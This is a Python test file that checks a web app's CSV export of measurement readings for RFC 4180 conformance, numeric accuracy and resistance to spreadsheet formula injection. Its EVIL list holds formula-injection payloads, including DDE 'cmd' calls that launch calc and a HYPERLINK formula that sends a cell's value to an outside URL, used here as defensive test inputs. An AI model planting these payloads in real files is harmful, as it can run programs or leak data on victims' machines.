"""The readings as a table: RFC 4180 to the letter, figures that stay figures, and no text that runs as a formula."""

from __future__ import annotations

import csv
import io
import re
import shutil
from collections.abc import Iterator
from contextlib import closing
from pathlib import Path
from sqlite3 import connect

import pytest

from tests.webapp.exchange.conftest import put
from webapp.db import Db
from webapp.exchange.readings_csv import BYTE_ORDER_MARK, COLUMNS, harmless, readings_csv

EVIL = (
    "=2+5+cmd|' /C calc'!A0",
    "+1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "  =1+1",
    "\u00a0=1+1",
    "＝1+1",
    '=HYPERLINK("http://x.invalid?"&A1,"see")',
    '"=1+1"',
    'a","=1+1',
    'x\r\n=1+1,"',
    "-",
    "-1-1",
    "+44 20",
    "'=1+1",
)
FIGURES = ("-0.5", "+0.5", "19,05", "-19", "0")


@pytest.fixture
def db(tmp_path: Path, rich_file: Path) -> Iterator[Db]:
    """The rich build, with a bore for each evil text, typed, named and given as a reason."""
    path = tmp_path / "evil.db"
    shutil.copy(rich_file, path)
    with closing(connect(path)) as connection, connection:
        for text in (*EVIL, *FIGURES):
            own = put(
                connection, "measurement", build_id=1, casting_id=1, kind="bore", unit="nm", value=-500_000,
                expanded=3, instrument=text, who="AB", at="2026-11-03 18:00:00.000000", struck_out_why=text,
                struck_out_by="AB", struck_out_at="2026-11-03 18:00:00.000000",
            )  # fmt: skip
            put(connection, "reading", measurement_id=own, ordinal=1, text=text)
    found = Db(path)
    yield found
    found.close()


def _text(db: Db, build: int = 1) -> str:
    with db.read() as session:
        return readings_csv(session, build)


def _rows(db: Db) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(_text(db)[1:], newline=""), strict=True))


def _split(text: str) -> Iterator[list[str]]:
    """The grammar of RFC 4180 itself, and nothing else: what does not follow it is an error."""
    field = r'(?:"((?:[^"]|"")*)"|([^",\r\n]*))'
    at, row = 0, []
    while at < len(text):
        found = re.compile(field + r"(,|\r\n)").match(text, at)
        assert found, text[at : at + 60]
        row.append(found[2] if found[1] is None else found[1].replace('""', '"'))
        at = found.end()
        if found[3] == "\r\n":
            yield row
            row = []
    assert not row, "the last line has no end"


def test_it_is_as_rfc_4180_says(db: Db) -> None:
    text = _text(db)
    assert text.startswith(BYTE_ORDER_MARK)
    rows = list(_split(text[1:]))
    assert rows[0] == list(COLUMNS)
    assert {len(row) for row in rows} == {len(COLUMNS)}
    assert rows[1:] == [list(row.values()) for row in _rows(db)]


def test_no_cell_is_a_formula(db: Db) -> None:
    cells = [cell for row in _rows(db) for cell in row.values()]
    assert len(cells) > 1000
    number = re.compile(r"[+-]?\d+([.,]\d+)?")
    for cell in cells:
        bare = cell.lstrip()
        assert not bare.startswith(tuple("=+-@＝＋－＠")) or number.fullmatch(cell), cell
        assert not cell.startswith(("\t", "\r", "\n")), cell


def test_the_evil_texts_are_still_told(db: Db) -> None:
    rows = [row for row in _rows(db) if row["state"] == "struck out"]
    for text in (*EVIL, *FIGURES):
        told = f"'{text}" if text in EVIL and harmless(text) != text else text
        for column in ("as typed", "instrument", "why struck out"):
            assert any(row[column] == told for row in rows), (column, text)
    assert sum(harmless(text) != text for text in EVIL) == len(EVIL) - 4
    assert all(harmless(text) == text for text in FIGURES)


def test_figures_are_exact_and_negative_ones_stay_figures(db: Db) -> None:
    rows = _rows(db)
    (row, *_) = [row for row in rows if row["as typed"] == "-19"]
    assert (row["read"], row["result"], row["U"], row["unit"]) == ("-0.5", "-0.5", "0.000003", "mm")
    assert (row["result in build's unit"], row["build's unit"]) == ("-0.01968504", "in")
    throw = next(row for row in rows if row["kind"] == "throw" and row["U"] == "0.000007")
    assert throw["result"] == "-28.000001"
    weight = next(row for row in rows if row["result"] == "900.001")
    assert (weight["kind"], weight["unit"], weight["build's unit"]) == ("weight", "g", "")


def test_plugs_have_a_row_with_their_ends_and_corrections_say_what_they_correct(db: Db) -> None:
    rows = _rows(db)
    misread = next(row for row in rows if row["kind"] == "bore" and row["least"] == "19.07")
    assert (misread["state"], misread["reading"], misread["read"], misread["most"]) == (
        "superseded",
        "",
        "",
        "",
    )
    corrected = [row for row in rows if row["corrects measurement"] == misread["measurement"]]
    assert {row["state"] for row in corrected} == {"struck out", "stands"}
    assert {row["most"] for row in corrected} == {"19.091"}


def test_heights_say_whose_they_are(db: Db) -> None:
    rows = [row for row in _rows(db) if row["kind"] == "pin_heights"]
    assert [(row["of"], row["wheels"], row["place"], row["direction"]) for row in rows] == [
        ("Axle 1", "W1 W2", "centre", ""),
        ("Axle 1", "W1 W2", "left", "rear"),
        ("Axle 1", "W1 W2", "right", "front"),
    ]
    assert (rows[0]["read"], rows[0]["result"]) == ("60.000001", "")


def test_every_measurement_of_the_build_and_of_no_other(db: Db) -> None:
    with closing(connect(db.path)) as connection:
        count = "SELECT count(*) FROM measurement WHERE build_id = ?"
        for build in (1, 2):
            rows = list(csv.DictReader(io.StringIO(_text(db, build)[1:], newline="")))
            assert (
                len({row["measurement"] for row in rows}) == connection.execute(count, (build,)).fetchone()[0]
            )
